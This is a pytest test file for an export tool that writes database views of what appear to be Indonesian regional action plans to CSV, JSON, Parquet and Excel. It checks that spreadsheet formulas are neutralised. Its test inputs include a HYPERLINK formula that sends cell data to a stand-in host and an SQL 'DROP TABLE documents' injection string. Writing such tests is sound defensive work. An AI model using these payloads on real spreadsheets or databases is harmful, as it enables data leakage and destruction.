"""Files for other programs: every value as in the views, nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import json
import re
import sys
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.utils import get_column_letter
from pyarrow import parquet

import dictionaries
from lampiran.app.cli import main
from lampiran.errors import MissingRequirement, UsageError
from load import Database
from load.export import WORKBOOK_VIEWS, export, guarded, plain, read_csv
from load.export_xlsx import CELL_LETTERS, CUT, write_workbook
from load.view_columns import column_of
from load.viewing import ORDER, read_view, snapshot
from load.views import VIEWS
from tests.support import databases, loading

NASTY = (
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "'; DROP TABLE documents; --",
    "- Foto",
    "-",
    "+62 811",
    "@SUM(1)",
    "\t=1+1",
    "'=1",
    "''- dua",
    " = 3",
    "\uff1d1+1",
    "1.000",
    "0123",
    "NO",
    'kata "kutip", koma; titik\nbaris baru',
    "https://kpu.go.id",
    "_x0041_",
    "nilai\x0b\x1f€ – é 😀",
)


def nasty_plan() -> Any:
    """A plan whose cells hold what programs like to misread, one a row, in two columns."""
    rows = [
        loading.row(
            number,
            (
                loading.repaired("indikator", (loading.part(text),)),
                loading.repaired("bukti_fisik", (loading.part(text),), review=True),
                loading.repaired("target_waktu", (loading.part("Mei"),)),
            ),
            ("90.P.1.i.a",) if number % 2 else (),
            months=(5,) if number % 3 else (),
        )
        for number, text in enumerate(NASTY, start=1)
    ]
    return loading.plan("=jahat.pdf", rows, loading.decree("007", 2025, kode_wilayah="35.10"))


@pytest.fixture(scope="module", params=databases.BACKENDS)
def db(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
    with Database.open(databases.fresh(request.param, tmp_path_factory.mktemp("export"))) as database:
        database.vocabulary_sync(dictionaries.load_vocabulary())
        database.save(loading.outcome(nasty_plan()))
        database.save(loading.outcome(loading.plan("dua.pdf", head=loading.decree("9", 2024))))
        database.save(loading.unread("kosong.pdf"))
        yield database


def view(db: Database, name: str) -> list[dict[str, Any]]:
    order = ", ".join(f'"{column}"' for column in ORDER[name])
    return [dict(line) for line in db.query(f"SELECT * FROM {name} ORDER BY {order}")]  # noqa: S608


def sheets(path: Path) -> dict[str, list[list[Any]]]:
    """A workbook's sheets by name: strings as str, numbers as float, empty cells as None; no formulas."""
    space = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    found: dict[str, list[list[Any]]] = {}
    with zipfile.ZipFile(path) as packed:
        book = ET.fromstring(packed.read("xl/workbook.xml"))  # noqa: S314 - our own file
        for number, sheet in enumerate(book.findall(".//m:sheet", space), start=1):
            root = ET.fromstring(packed.read(f"xl/worksheets/sheet{number}.xml"))  # noqa: S314
            assert root.find(".//m:f", space) is None, "a formula"
            rows = []
            for row in root.findall(".//m:row", space):
                values: list[Any] = []
                for cell in row.findall("m:c", space):
                    column = 0
                    for letter in re.match("[A-Z]+", cell.get("r", ""))[0]:  # type: ignore[index]
                        column = column * 26 + ord(letter) - 64
                    values.extend([None] * (column - 1 - len(values)))
                    text = cell.find(".//m:t", space)
                    values.append(_text(text.text or "") if text is not None else _number(cell, space))
                rows.append(values)
            found[sheet.get("name", "")] = rows
    return found


def _text(stored: str) -> str:
    return re.sub("_x([0-9A-F]{4})_", lambda code: chr(int(code[1], 16)), stored)


def _number(cell: ET.Element, space: dict[str, str]) -> float | None:
    value = cell.find("m:v", space)
    return None if value is None or value.text is None else float(value.text)


def test_every_column_of_every_view_has_the_type_it_is_given(db: Database) -> None:
    expected = {"text": str, "integer": int, "flag": int, "number": (float, int)}
    for name in VIEWS:
        for line in view(db, name):
            for column, value in line.items():
                kind = column_of(name, column)
                if value is not None:
                    assert isinstance(value, expected[kind.kind]), (name, column, value)  # type: ignore[arg-type]
                    assert value != "", (name, column)
    assert set(ORDER) == set(VIEWS)


def test_csv_read_back_is_what_stands_in_the_database(db: Database, tmp_path: Path) -> None:
    for name in VIEWS:
        path = tmp_path / f"{name}.csv"
        written = export(db.engine, path, [name])
        assert read_csv(path, name) == view(db, name)
        assert written.lines == {name: len(view(db, name))}


def test_a_spreadsheet_that_opens_the_csv_runs_nothing(db: Database, tmp_path: Path) -> None:
    export(db.engine, tmp_path / "a.csv")
    text = (tmp_path / "a.csv").read_bytes()
    assert text.startswith(b"\xef\xbb\xbf")
    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as stream:
        cells = [cell for line in csv.reader(stream) for cell in line]
    assert [cell for cell in cells if cell.strip()[:1] in ("=", "+", "@", "-") and cell != "-"] == []
    assert '\'=HYPERLINK("http://x.example/?"&A1,"klik")' in cells
    assert {"'- Foto", "-", "35.10", "'; DROP TABLE documents; --"} <= set(cells)


@given(st.text(alphabet="'=+-@ \t\r\nab\uff1d\x00", max_size=8))
def test_the_apostrophe_can_always_be_taken_away_again(text: str) -> None:
    assert plain(guarded(text)) == text
    assert guarded(text).strip(" \n\x00")[:1] not in ("=", "+", "@", "\t", "\r")


def test_json_and_parquet_hold_the_same_values(db: Database, tmp_path: Path) -> None:
    for name in ("rencana_aksi", "cell", "kalender", "document"):
        expected = view(db, name)
        export(db.engine, tmp_path / "a.json", [name])
        assert json.loads((tmp_path / "a.json").read_text(encoding="utf-8")) == expected
        export(db.engine, tmp_path / "a.parquet", [name])
        table = parquet.read_table(tmp_path / "a.parquet")
        assert table.to_pylist() == expected
    assert str(table.schema.field("sha256").type) == "string"


def test_an_empty_database_gives_files_with_columns_and_no_lines(tmp_path: Path) -> None:
    with Database.open(tmp_path / "leer.db") as db:
        for ending in (".csv", ".json", ".parquet", ".xlsx"):
            assert sum(export(db.engine, tmp_path / f"a{ending}").lines.values()) == 0
    assert json.loads((tmp_path / "a.json").read_text()) == []
    assert read_csv(tmp_path / "a.csv") == []
    assert "indikator_id" in parquet.read_table(tmp_path / "a.parquet").column_names
    assert sheets(tmp_path / "a.xlsx")["rencana_aksi"][0][0] == "document_id"


def test_a_workbook_has_a_sheet_a_view_with_the_exact_texts(db: Database, tmp_path: Path) -> None:
    export(db.engine, tmp_path / "a.xlsx")
    found = sheets(tmp_path / "a.xlsx")
    assert list(found) == [*WORKBOOK_VIEWS, "keterangan"]
    for name in WORKBOOK_VIEWS:
        expected = view(db, name)
        head, *lines = found[name]
        assert head == list(expected[0])
        assert len(lines) == len(expected)
        for line, values in zip(lines, expected, strict=True):
            shown = [*line, *[None] * (len(head) - len(line))]
            assert shown == [value if value != "" else None for value in values.values()]


def test_a_workbook_has_frozen_heads_filters_and_widths(db: Database, tmp_path: Path) -> None:
    export(db.engine, tmp_path / "a.xlsx", ["mutu", "rencana_aksi"])
    with zipfile.ZipFile(tmp_path / "a.xlsx") as packed:
        sheet = packed.read("xl/worksheets/sheet2.xml").decode()
    rows = len(view(db, "rencana_aksi"))
    assert 'state="frozen"' in sheet
    assert 'ySplit="1"' in sheet
    last = get_column_letter(len(view(db, "rencana_aksi")[0]))
    assert f'<autoFilter ref="A1:{last}{rows + 1}"/>' in sheet
    widths = {
        int(at): float(width)
        for at, width in re.findall(r'<col min="(\d+)" max="\d+" width="([\d.]+)"', sheet)
    }
    assert 5 < min(widths.values()) < max(widths.values()) < 60


def fills(path: Path, sheet: int) -> dict[str, str]:
    """Cell to background colour, of the cells that have one."""
    space = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(path) as packed:
        styles = ET.fromstring(packed.read("xl/styles.xml"))  # noqa: S314 - our own file
        root = ET.fromstring(packed.read(f"xl/worksheets/sheet{sheet}.xml"))  # noqa: S314
    colours = [fill.find(".//m:fgColor", space) for fill in styles.findall("m:fills/m:fill", space)]
    forms = [int(form.get("fillId", 0)) for form in styles.findall("m:cellXfs/m:xf", space)]
    found = {}
    for cell in root.findall(".//m:c", space):
        colour = colours[forms[int(cell.get("s", 0))]]
        if colour is not None:
            found[cell.get("r", "")] = colour.get("rgb", "")
    return found


def test_cells_to_review_are_marked_and_no_others_even_empty_ones(db: Database, tmp_path: Path) -> None:
    export(db.engine, tmp_path / "a.xlsx", ["rencana_aksi"])
    (head, *lines) = sheets(tmp_path / "a.xlsx")["rencana_aksi"]
    flagged = {
        (line["document_id"], line["urutan"], line["kolom"])
        for line in view(db, "cell")
        if line["needs_review"]
    }
    assert flagged
    yellow = [place for place, colour in fills(tmp_path / "a.xlsx", 1).items() if colour == "FFFFE699"]
    shown = set()
    for place in yellow:
        letter, row = place.rstrip("0123456789"), int(place.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ"))
        column = sum((ord(one) - 64) * 26**power for power, one in enumerate(reversed(letter))) - 1
        line = lines[row - 2]
        shown.add((line[0], line[head.index("urutan")], head[column]))
    assert shown == flagged


def test_a_workbook_says_what_its_columns_hold_and_folds_what_is_for_programs(
    db: Database, tmp_path: Path
) -> None:
    export(db.engine, tmp_path / "a.xlsx", ["rencana_aksi"])
    with zipfile.ZipFile(tmp_path / "a.xlsx") as packed:
        comments = packed.read("xl/comments1.xml").decode()
        sheet = packed.read("xl/worksheets/sheet1.xml").decode()
    assert "Tahun yang tertulis pada target waktu" in comments
    folded = re.findall(r'<col min="(\d+)" max="\d+" [^>]*hidden="1"[^>]*outlineLevel="1"', sheet)
    head = sheets(tmp_path / "a.xlsx")["rencana_aksi"][0]
    assert [head[int(at) - 1] for at in folded] == ["document_id", "sha256"]


def test_rows_come_by_region_and_file_in_the_order_of_the_decree(db: Database, tmp_path: Path) -> None:
    export(db.engine, tmp_path / "a.json")
    lines = json.loads((tmp_path / "a.json").read_text(encoding="utf-8"))
    keys = [(line["kode_wilayah"], line["file"], line["urutan"]) for line in lines]
    assert len({file for _, file, _ in keys}) > 1
    assert keys == sorted(keys)


def test_a_view_longer_than_a_sheet_goes_on_in_another_and_says_so(db: Database, tmp_path: Path) -> None:
    with snapshot(db.engine) as connection:
        lines, notes = write_workbook(
            tmp_path / "a.xlsx", [read_view(connection, "rencana_aksi")], {}, sheet_rows=8
        )
    found = sheets(tmp_path / "a.xlsx")
    names = ["rencana_aksi", "rencana_aksi_2", "rencana_aksi_3"]
    assert list(found) == [*names, "keterangan"]
    assert [len(found[name]) for name in names] == [8, 8, 7]
    assert {str(found[name][0]) for name in names} == {str(found["rencana_aksi"][0])}
    assert lines == {"rencana_aksi": 20}
    assert notes == [
        "rencana_aksi has 20 lines, more than a sheet holds; it is split: "
        "rencana_aksi, rencana_aksi_2, rencana_aksi_3."
    ]


def test_a_text_longer_than_an_excel_cell_is_cut_and_said_so(tmp_path: Path) -> None:
    long = "😀" * CELL_LETTERS
    cells = (loading.repaired("indikator", (loading.part(long),)),)
    with Database.open(tmp_path / "a.db") as db:
        db.save(loading.outcome(loading.plan(rows=[loading.row(1, cells)])))
        written = export(db.engine, tmp_path / "a.xlsx", ["rencana_aksi"])
    shown = next(cell for cell in sheets(tmp_path / "a.xlsx")["rencana_aksi"][1] if "😀" in str(cell))
    assert shown.endswith(CUT)
    assert len(shown.encode("utf-16-le")) // 2 in (CELL_LETTERS, CELL_LETTERS - 1)
    assert written.notes == (
        f"1 texts are longer than an Excel cell and end with{CUT}: rencana_aksi row 2 indikator.",
    )


def test_superseded_documents_are_not_exported_as_plans(tmp_path: Path) -> None:
    with Database.open(tmp_path / "a.db", now="2026-01-01T00:00:00Z") as db:
        db.save(loading.outcome(loading.plan("lama.pdf", head=loading.decree("1", 2025, doubts=()))))
    newer = replace(loading.decree("1", 2025, doubts=()), tanggal_sk="2025-12-01")
    with Database.open(tmp_path / "a.db", now="2026-02-01T00:00:00Z") as db:
        db.save(loading.outcome(loading.plan("baru.pdf", head=newer)))
        export(db.engine, tmp_path / "a.csv")
    assert {line["file"] for line in read_csv(tmp_path / "a.csv")} == {"baru.pdf"}


@pytest.mark.parametrize(
    ("name", "views", "said"),
    [
        ("a.doc", (), "not known"),
        ("a", (), "not known"),
        ("a.csv", ("document", "cell"), "one view"),
        ("a.xlsx", ("plans; DROP TABLE documents",), "no view"),
    ],
)
def test_wrong_wishes_are_refused_before_anything_is_written(
    tmp_path: Path, name: str, views: tuple[str, ...], said: str
) -> None:
    with Database.open(tmp_path / "a.db") as db, pytest.raises(UsageError, match=said):
        export(db.engine, tmp_path / name, views)
    assert [path.name for path in tmp_path.iterdir()] == ["a.db"]


def test_what_was_there_stays_when_writing_fails(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "a.csv").write_text("lama")
    with Database.open(tmp_path / "a.db") as db:
        db.save(loading.outcome())
        monkeypatch.setattr("load.export.guarded", lambda _: 1 / 0)
        with pytest.raises(ZeroDivisionError):
            export(db.engine, tmp_path / "a.csv")
        with pytest.raises(MissingRequirement, match="cannot be written"):
            export(db.engine, tmp_path / "nirgends" / "a.xlsx")
    assert (tmp_path / "a.csv").read_text() == "lama"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a.csv", "a.db"]


def test_a_folder_that_lets_nothing_be_written_is_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refused(*_: object, **__: object) -> None:
        raise OSError(30, "Read-only file system")

    with Database.open(tmp_path / "a.db") as db:
        monkeypatch.setattr("tempfile.mkstemp", refused)
        with pytest.raises(MissingRequirement, match=r"a\.xlsx cannot be written: the disk can only be read"):
            export(db.engine, tmp_path / "a.xlsx")


@pytest.mark.parametrize(("package", "ending"), [("pyarrow", ".parquet"), ("xlsxwriter", ".xlsx")])
def test_a_missing_package_is_named_with_what_to_type(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, package: str, ending: str
) -> None:
    monkeypatch.setitem(sys.modules, package, None)
    with Database.open(tmp_path / "a.db") as db, pytest.raises(MissingRequirement, match=package) as caught:
        export(db.engine, tmp_path / f"a{ending}")
    assert f"{sys.executable} -m pip install {package}" in caught.value.next_step
    assert not (tmp_path / f"a{ending}").exists()


def test_a_file_that_excel_holds_open_is_told_and_left(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Windows lets nobody replace a file that is open."""

    def held(*_: object) -> None:
        raise PermissionError(13, "The process cannot access the file")

    (tmp_path / "a.xlsx").write_text("lama", encoding="utf-8")
    monkeypatch.setattr(Path, "replace", held)
    with (
        Database.open(tmp_path / "a.db") as db,
        pytest.raises(MissingRequirement, match="access is denied") as caught,
    ):
        export(db.engine, tmp_path / "a.xlsx")
    assert "Close it in other programs" in caught.value.next_step
    assert (tmp_path / "a.xlsx").read_text(encoding="utf-8") == "lama"
    assert not [path for path in tmp_path.iterdir() if "unfinished" in path.name]


def test_the_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with Database.open(tmp_path / "a.db") as db:
        db.save(loading.outcome())
    target = tmp_path / "a.csv"
    assert main(["export", "--db", str(tmp_path / "a.db"), "--to", str(target), "--view", "document"]) == 0
    shown = capsys.readouterr()
    assert shown.out == ""
    assert "document: 1 lines" in shown.err
    assert read_csv(target, "document")[0]["file"] == "contoh.pdf"
    assert main(["export", "--db", str(tmp_path / "a.db"), "--to", str(tmp_path / "a.pdf")]) == 2
    assert main(["export", "--db", str(tmp_path / "b.db"), "--to", str(target)]) == 3
